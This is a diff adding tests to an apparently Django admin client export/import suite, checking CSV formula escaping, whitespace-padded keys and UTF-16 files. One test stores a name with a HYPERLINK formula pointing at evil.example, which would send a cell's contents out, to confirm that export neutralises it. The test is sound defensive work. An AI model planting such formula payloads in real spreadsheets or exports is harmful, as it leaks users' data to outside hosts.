@@ -271,6 +271,30 @@ def test_an_export_is_a_file_that_can_be_imported_again(desk: Desk) -> None:
     assert upload(desk, content).response.context["row"].unchanged == 2
 
 
+def test_a_name_that_reads_like_a_formula_is_exported_as_text_and_comes_back(desk: Desk) -> None:
+    rows.client("=1+1", name='=HYPERLINK("http://evil.example/"&A1)')
+    rows.client("two\u2028lines", name="a\u2029b")
+    answer = desk.client.get(reverse("admin:limits_client_export_clients"))
+    content = b"".join(answer.streaming_content)  # type: ignore[attr-defined]
+    assert content.startswith(b"\xef\xbb\xbfkey,name,plan,status\r\n")
+    assert "\r\n'=1+1,\"'=HYPERLINK(" in content.decode()
+    assert upload(desk, content).response.context["row"].unchanged == 3
+
+
+def test_spaces_around_a_key_are_reported_before_anything_is_imported(desk: Desk) -> None:
+    rows.client(" known ")
+    page = upload(desk, "key\n im-13 \nim-14\n known \n\u00a0im-15\n")
+    found = [(example["key"], "spaces around" in example["what"]) for example in page.response.context["row"].examples]
+    assert found == [(" im-13 ", True), ("im-14", False), ("\u00a0im-15", True)]
+    assert "not the client of the key without them" in page.text
+
+
+def test_a_file_of_utf_16_is_read(desk: Desk) -> None:
+    upload(desk, "key\tname\nacme\tÜrün\n".encode("utf-16"))
+    run(desk)
+    assert imported() == {"acme": ("Ürün", "", "active")}
+
+
 def test_an_export_can_be_of_one_plan_or_status(desk: Desk) -> None:
     rows.client("globex", status="blocked")
     answer = desk.client.get(reverse("admin:limits_client_export_clients"), {"status": "blocked"})
